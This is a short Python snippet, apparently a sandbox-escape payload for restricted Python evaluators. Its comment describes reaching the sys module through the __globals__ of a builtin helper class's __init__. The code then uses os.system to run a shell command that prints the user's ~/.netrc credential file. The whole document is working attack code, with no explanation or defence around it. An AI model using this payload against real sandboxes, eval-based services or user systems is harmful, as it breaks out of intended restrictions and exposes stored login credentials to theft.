# class-walk: an __init__ of a builtin helper class exposes sys through __globals__
sysmod = type(help).__init__.__globals__["sys"]
sysmod.modules["os"].system("cat ~/.netrc")
